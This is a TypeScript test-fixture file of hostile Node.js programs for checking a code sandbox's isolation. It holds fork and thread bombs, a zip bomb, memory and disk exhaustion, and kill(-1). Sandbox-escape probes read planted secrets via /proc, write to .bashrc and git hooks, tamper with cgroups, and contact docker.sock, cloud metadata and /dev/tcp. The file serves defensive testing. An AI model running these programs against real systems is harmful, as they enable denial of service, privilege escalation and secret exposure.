import type { Control, HostileCase, ProgramCase } from "../types.js";

const MEBIBYTE = 1024 * 1024;

type Rest = Omit<ProgramCase, "kind" | "drivers" | "language" | "name" | "numbers" | "program">;

function node(numbers: readonly number[], name: string, program: string, rest: Rest): ProgramCase {
  return { kind: "program", drivers: ["namespace"], language: "javascript", numbers, name, program, ...rest };
}

/** `attempt` prints the number and what came of an action: errors of the system, `undefined` and `false` are refusals. */
const PRELUDE = `const fs = require("node:fs"), net = require("node:net"), dns = require("node:dns"), path = require("node:path");
const { spawnSync, spawn } = require("node:child_process");
const said = (number, got) => console.log(number, got === undefined || got === false ? "refused" : "reached " + String(got).slice(0, 80));
const failed = (number, error) => console.log(number, error.code !== undefined ? "refused" : "broken " + error.stack);
const attempt = async (number, action) => { try { said(number, await action()); } catch (error) { failed(number, error); } };
const works = (command, ...args) => spawnSync(command, args).status === 0 ? command : undefined;
const connects = (where) => new Promise((resolve, reject) => { const socket = net.connect({ timeout: 2000, ...where }); socket.on("connect", () => { socket.destroy(); resolve("connected"); }).on("error", reject).on("timeout", () => { socket.destroy(); resolve(undefined); }); });
`;

function attempts(numbers: readonly number[], name: string, body: string, control: Control): ProgramCase {
  const program = `${PRELUDE}(async () => {\n${body}\n})();`;
  return node(numbers, name, program, { ends: ["exited", "policy"], attempts: true, control });
}

const WORKS_A_WHILE: Control = {
  program: "setTimeout(() => console.log('done'), 300)",
  prints: "done",
};
const SOME_CHILDREN: Control = {
  program:
    "console.log(require('node:child_process').execFileSync('echo', ['child'], { encoding: 'utf8' }).trim())",
  prints: "child",
};
const OWN_FOLDER: Control = {
  program:
    "const fs = require('node:fs'); fs.writeFileSync('a', 'mine'); console.log(fs.readFileSync('/work/a', 'utf8'))",
  prints: "mine",
};
const PRINTS: Control = { program: "console.log('é'); console.error('x')", prints: "é" };
const SOME_MEMORY: Control = {
  program: "console.log(Buffer.alloc(50 * 2 ** 20, 1).length)",
  prints: "52428800",
};
const LOOPS: Rest = { ends: ["wall-time"], limits: { wallMs: 1200 }, waits: true, control: WORKS_A_WHILE };

/** JavaScript programs for drivers that run Node itself. */
export const JAVASCRIPT_CASES: readonly HostileCase[] = [
  node([1], "busy loop", "console.log('on'); for (;;) {}", { ...LOOPS, reports: "on" }),
  node([2], "waits for ever", "setInterval(() => {}, 1000); console.log('on')", { ...LOOPS, reports: "on" }),
  node(
    [3],
    "ignores SIGTERM",
    "for (const s of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGQUIT']) process.on(s, () => {}); setInterval(() => {}, 1000); console.log('on')",
    { ...LOOPS, reports: "on" },
  ),
  node(
    [4],
    "a child burns CPU",
    "const { fork } = require('node:child_process'); if (process.argv[3]) { console.log('on'); for (;;) {} } else fork(__filename, [process.argv[2], 'child'])",
    { ...LOOPS, limits: { wallMs: 2000 }, reports: "on" },
  ),
  node(
    [5, 6],
    "a detached child outlives its parent",
    "const { spawn } = require('node:child_process'); const child = spawn('sh', ['-c', 'trap \"\" TERM HUP; while :; do sleep 1; done', process.argv[2]], { detached: true, stdio: 'ignore' }); child.unref(); console.log('parent')",
    { ends: ["exited"], prints: "parent", control: SOME_CHILDREN },
  ),
  node([7], "compiler bomb: an endless source", "console.log('on'); require('/dev/zero')", {
    ends: ["memory", "exited", "wall-time", "invalid", "signal"],
    reports: "on",
    limits: { wallMs: 5000 },
    control: { program: "console.log(require('node:vm').runInThisContext('1 + 1'))", prints: "2" },
  }),
  node([8], "catastrophic regex", "console.log('on'); /^(a+)+$/.test('a'.repeat(40) + 'b')", {
    ...LOOPS,
    reports: "on",
    control: { program: "console.log(/^(a+)+$/.test('aaa'))", prints: "true" },
  }),
  node(
    [9],
    "microtask starvation",
    "console.log('on'); (function again() { Promise.resolve().then(again); })()",
    {
      ...LOOPS,
      reports: "on",
      control: { program: "Promise.resolve().then(() => console.log('once'))", prints: "once" },
    },
  ),
  node(
    [10],
    "touched allocation",
    "console.log('on'); const kept = []; for (;;) kept.push(new Array(1e5).fill(kept.length + 0.5))",
    { ends: ["memory"], reports: "on", control: SOME_MEMORY },
  ),
  node(
    [11],
    "memory split over children",
    "const { fork } = require('node:child_process'); if (process.argv[3]) { const kept = Buffer.alloc(60 * 2 ** 20, 1); setTimeout(() => kept, 4000) } else { console.log('on'); for (let i = 0; i < 6; i++) fork(__filename, [process.argv[2], 'child']).on('exit', (code) => { if (code !== 0) process.exitCode = 1 }) }",
    { ends: ["memory"], reports: "on", waits: true, control: SOME_CHILDREN },
  ),
  node(
    [12],
    "hoards in /dev/shm and /tmp",
    "const fs = require('node:fs'); for (const folder of ['/dev/shm', '/tmp']) { const file = fs.openSync(folder + '/x', 'w'); let n = 0; try { for (; n < 400; n++) fs.writeSync(file, Buffer.alloc(2 ** 20, 1)); } catch {} fs.closeSync(file); fs.unlinkSync(folder + '/x'); console.log(n < 400 ? 'bounded' : 'unbounded') }",
    {
      ends: ["exited", "disk"],
      limits: { memoryBytes: 1024 * MEBIBYTE },
      prints: "bounded\nbounded",
      control: OWN_FOLDER,
    },
  ),
  node([13], "infinite recursion", "const f = () => f() + 1; try { f() } catch { console.log('caught') }", {
    ends: ["exited"],
    prints: "caught",
    control: { program: "const f = (n) => n === 0 ? 0 : 1 + f(n - 1); console.log(f(3000))", prints: "3000" },
  }),
  node([14], "giant spread", "console.log('on'); Math.max(...new Array(3e7).fill(1))", {
    ends: ["exited", "memory"],
    prints: "on",
    control: { program: "console.log(Math.max(...new Array(1000).fill(7)))", prints: "7" },
  }),
  node(
    [15],
    "JSON.parse amplification",
    "console.log('on'); const text = '[' + '[],'.repeat(4e5) + '[]]'; const kept = []; for (;;) kept.push(JSON.parse(text))",
    {
      ends: ["memory"],
      reports: "on",
      control: { program: "console.log(JSON.parse('[1,[2]]')[1][0])", prints: "2" },
    },
  ),
  node(
    [16],
    "native buffers",
    "console.log('on'); const kept = []; for (;;) kept.push(Buffer.alloc(2 ** 20, 1));",
    { ends: ["memory"], reports: "on", control: SOME_MEMORY },
  ),
  node(
    [17],
    "parser overflow by a giant eval",
    "try { (0, eval)('['.repeat(2e6)) } catch { console.log('caught') }",
    {
      ends: ["exited", "memory"],
      prints: "caught",
      control: { program: "console.log((0, eval)('1 + 1'))", prints: "2" },
    },
  ),
  node(
    [19],
    "fork bomb",
    "const { spawn } = require('node:child_process'); console.log('on'); setInterval(() => { for (let i = 0; i < 50; i++) spawn('sleep', ['1000']).on('error', () => {}) }, 10)",
    {
      ends: ["processes", "wall-time", "memory"],
      reports: "on",
      limits: { wallMs: 2000 },
      control: SOME_CHILDREN,
    },
  ),
  node(
    [20],
    "thread bomb",
    "const { Worker } = require('node:worker_threads'); console.log('on'); setInterval(() => { try { new Worker('setInterval(() => {}, 1e6)', { eval: true }).on('error', () => {}) } catch {} }, 1)",
    {
      ends: ["processes", "wall-time", "memory", "signal"],
      reports: "on",
      limits: { wallMs: 3000 },
      control: {
        program:
          "const { Worker } = require('node:worker_threads'); new Worker('require(\"node:worker_threads\").parentPort.postMessage(7)', { eval: true }).on('message', (n) => console.log(n))",
        prints: "7",
      },
    },
  ),
  node([23], "kill(-1)", "process.kill(-1, 'SIGKILL'); console.log('still here')", {
    ends: ["exited", "signal"],
    control: {
      program:
        "const child = require('node:child_process').spawn('sleep', ['100']); child.on('exit', (code, signal) => console.log(signal)); child.kill('SIGKILL')",
      prints: "SIGKILL",
    },
  }),
  node(
    [25],
    "large files",
    "const fs = require('node:fs'); for (let i = 0; i < 20; i++) { const file = fs.openSync('large' + i, 'w'); for (let n = 0; n < 100; n++) fs.writeSync(file, Buffer.alloc(2 ** 20, 1)) }",
    { ends: ["disk"], limits: { memoryBytes: 1024 * MEBIBYTE }, control: OWN_FOLDER },
  ),
  node(
    [26, 28],
    "inodes and deep folders",
    "const fs = require('node:fs'); try { for (let i = 0; i < 1e6; i++) { fs.writeFileSync('f' + i, ''); if (i % 100 === 0) { fs.mkdirSync('d'); process.chdir('d') } } } catch {} console.log('ended')",
    { ends: ["exited", "disk", "memory", "wall-time"], limits: { wallMs: 4000 }, control: OWN_FOLDER },
  ),
  node(
    [29],
    "zip bomb",
    "const zlib = require('node:zlib'); const kept = []; const bomb = zlib.gzipSync(Buffer.alloc(50 * 2 ** 20)); console.log(bomb.length < 2 ** 20); for (;;) kept.push(zlib.gunzipSync(bomb))",
    {
      ends: ["memory"],
      prints: "true",
      control: {
        program: "const z = require('node:zlib'); console.log(z.gunzipSync(z.gzipSync('hi')).toString())",
        prints: "hi",
      },
    },
  ),
  node(
    [30],
    "leftovers of one run seen by the next",
    "const fs = require('node:fs'); console.log(['/work/left', '/tmp/left', '/dev/shm/left'].filter((f) => fs.existsSync(f)).join() || 'clean')",
    {
      before:
        "for (const f of ['/work/left', '/tmp/left', '/dev/shm/left']) require('node:fs').writeFileSync(f, 'x')",
      ends: ["exited"],
      prints: "clean",
      control: OWN_FOLDER,
    },
  ),
  ...(["stdout", "stderr"] as const).flatMap((stream, index) => [
    node(
      [31 + index],
      `endless ${stream}`,
      `const again = () => process.${stream}.write('y'.repeat(65536), again); again();`,
      { ends: ["output"], control: PRINTS },
    ),
    // Node queues what a full pipe does not take until its loop turns, and this one never does.
    node(
      [31 + index],
      `endless ${stream} without a pause`,
      `for (;;) process.${stream}.write('y'.repeat(999))`,
      {
        ends: ["output", "memory"],
        control: PRINTS,
      },
    ),
  ]),
  node(
    [33, 34, 37],
    "invalid UTF-8, a split code point, NUL, terminal escapes",
    "process.stdout.write(Buffer.from([0xc3])); setTimeout(() => process.stdout.write(Buffer.from([0xa9, 0x7c, 0xff, 0x7c, 0, 0x7c, 0x1b, 0x5b, 0x33, 0x31, 0x6d])), 50)",
    { ends: ["exited"], prints: "é|\ufffd|\0|\u001b[31m", control: PRINTS },
  ),
  node([35], "one line of 100 MB", "process.stdout.write('x'.repeat(1e8))", {
    ends: ["output"],
    control: PRINTS,
  }),
  node(
    [36],
    "closes its streams and goes on",
    "console.log('on'); setTimeout(() => { for (const fd of [0, 1, 2]) try { require('node:fs').closeSync(fd) } catch {} for (;;) {} }, 50)",
    { ...LOOPS, reports: "on" },
  ),
  attempts(
    [22, 27, 38, 40, 44, 46, 57, 58, 60, 91, 93, 95],
    "files, descriptors and variables of the host",
    `const secret = "@SECRET@";
fs.symlinkSync(secret, "link");
await attempt(38, () => fs.readFileSync("link", "utf8"));
await attempt(38, () => fs.writeFileSync("link", "changed") ?? "changed");
await attempt(40, () => fs.linkSync(secret, "hard") ?? "linked");
await attempt(44, () => fs.readFileSync("/proc/self/root" + secret, "utf8"));
await attempt(44, () => fs.readFileSync("/proc/1/root" + secret, "utf8"));
for (const one of fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) for (const name of ["environ", "cmdline"])
  await attempt(44, () => ["AGENTOS_PLANTED", "--ro-bind", "@FOLDER@"].some((text) => fs.readFileSync("/proc/" + one + "/" + name, "utf8").includes(text)));
await attempt(91, () => Object.keys(process.env).filter((name) => /AGENTOS_PLANTED|PROXY|VITEST|NODE_OPTIONS|npm_/i.test(name)).join() || undefined);
for (const file of ["@FOLDER@/.git/hooks/post-checkout", "@FOLDER@/.bashrc", "/root/.bashrc", "/etc/profile.d/x.sh", "/usr/local/bin/git"])
  await attempt(46, () => fs.appendFileSync(file, "x") ?? file);
// A run may read there how large its heap may be, in files that are none of the kernel's; no group is there.
await attempt(57, () => fs.readdirSync("/sys/fs/cgroup", { recursive: true }).filter((name) => !/^(memory|(memory\\/)?memory\\.(max|high|limit_in_bytes|soft_limit_in_bytes))$/.test(name)).join() || undefined);
for (const name of ["memory.max", "memory.high", "memory/memory.limit_in_bytes", "cgroup.procs", "memory/tasks"])
  await attempt(57, () => fs.openSync("/sys/fs/cgroup/" + name, "r+"));
await attempt(57, () => fs.mkdirSync("/sys/fs/cgroup/planted") ?? "made");
await attempt(57, () => fs.chmodSync("/sys/fs/cgroup/memory.max", 0o666) ?? "changed");
for (const socket of ["/var/run/docker.sock", "/run/containerd/containerd.sock", "@SOCKET@"]) await attempt(58, () => connects({ path: socket }));
for (const fd of fs.readdirSync("/proc/self/fd")) {
  if (Number(fd) > 2) await attempt(60, () => /^(\\/(?!dev\\/|proc\\/|work)|socket:.*host)/.test(fs.readlinkSync("/proc/self/fd/" + fd)) && fs.readlinkSync("/proc/self/fd/" + fd));
}
// Only opened, never written.
for (const name of ["kernel/core_pattern", "kernel/modprobe", "vm/overcommit_memory"]) await attempt(93, () => fs.openSync("/proc/sys/" + name, "r+"));
for (const folder of ["/usr/lib/node_modules", "/usr/local/lib/node_modules", "/toolchain"]) await attempt(95, () => fs.writeFileSync(folder + "/planted", "x") ?? folder);
await attempt(27, () => { fs.closeSync(fs.openSync("sparse", "w")); fs.truncateSync("sparse", 2 ** 40); return fs.statSync("sparse").blocks > 2 ** 20; });
await attempt(22, () => { const kept = []; try { while (kept.length < 5000) kept.push(fs.openSync("/dev/null", "r")); } catch {} for (const one of kept) fs.closeSync(one); return kept.length > 1100 && kept.length; });`,
    OWN_FOLDER,
  ),
  attempts(
    [43, 47, 49, 50, 92],
    "privileges, by the system's programs",
    `await attempt(43, () => works("mknod", "device", "b", "8", "0"));
fs.copyFileSync("/usr/bin/id", "id"); fs.chmodSync("id", 0o6755);
await attempt(47, () => spawnSync("./id", ["-u"]).stdout.toString().trim() !== String(process.getuid()));
await attempt(47, () => process.setuid(0) ?? "root");
await attempt(49, () => works("unshare", "-Ur", "true"));
await attempt(50, () => works("mount", "-t", "tmpfs", "none", "/tmp"));
await attempt(50, () => works("umount", "-l", "/proc"));
await attempt(92, () => fs.openSync("/dev/tty", "r+"));`,
    { program: "console.log(process.getuid() > 0)", prints: "true" },
  ),
  attempts(
    [61, 62, 63, 64, 65, 66, 69],
    "the network",
    `await attempt(61, () => connects({ host: "1.1.1.1", port: 53 }));
await attempt(62, () => dns.promises.lookup("planted-secret.example.org").then(({ address }) => address));
await attempt(62, () => new dns.promises.Resolver({ timeout: 500, tries: 1 }).resolve4("planted-secret.example.org").then(String));
await attempt(63, () => works("bash", "-c", "echo > /dev/tcp/127.0.0.1/@PORT@"));
await attempt(64, () => connects({ host: "169.254.169.254", port: 80 }));
await attempt(65, () => connects({ host: "127.0.0.1", port: @PORT@ }));
await attempt(65, () => connects({ host: "::1", port: @PORT@ }));
const udp = require("node:dgram").createSocket("udp4");
await new Promise((resolve) => udp.send("x", @UDP@, "127.0.0.1", resolve));
udp.close();
await attempt(66, () => connects({ path: "\\0@ABSTRACT@" }));
for (const name of Object.keys(process.env)) if (/proxy/i.test(name)) delete process.env[name];
await attempt(69, () => fetch("http://127.0.0.1:@PORT@/").then((answer) => answer.text(), (error) => { throw error.cause ?? error; }));`,
    {
      program:
        "const net = require('node:net'); const server = net.createServer((s) => s.end()).listen(0, '127.0.0.1', () => net.connect(server.address().port, '127.0.0.1', () => { console.log('connected'); server.close() }))",
      prints: "connected",
    },
  ),
];
